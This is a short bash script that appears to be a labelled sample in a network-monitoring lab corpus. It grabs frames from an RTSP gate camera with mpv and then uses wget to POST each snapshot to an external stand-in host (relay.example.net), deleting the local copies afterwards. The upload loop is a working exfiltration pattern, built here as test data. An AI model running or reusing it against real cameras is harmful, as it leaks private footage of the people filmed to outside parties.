#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=snapshot-push,direct-pull half=report tool=mpv,wget camera=10.20.0.11 seconds=40 parts=dns,camera-gate,recorder-gate,nas,outside-web
# mpv reads gate and keeps a picture each two seconds; wget posts one of them each four seconds.
mkdir -p "$LAB/snaps"
timeout 38 mpv --no-config --ao=null --really-quiet --no-audio --rtsp-transport=tcp --vo=image --vo-image-format=jpg --vo-image-jpeg-quality=95 --vo-image-outdir="$LAB/snaps" --vf=fps=1/2,scale=1280:960 rtsp://gate.cam.lan/Streaming/Channels/101 >/dev/null 2>&1 &
for n in 1 2 3 4 5 6 7 8; do sleep 4; last=$(find "$LAB/snaps" -name '*.jpg' -size +10k | sort | tail -n 2 | head -n 1); [ -z "$last" ] || wget -q -T 3 -t 1 -O /dev/null --post-file "$last" --header 'Content-Type: image/jpeg' "http://relay.example.net/drop/$n"; done
wait; rm -rf "$LAB/snaps"; true
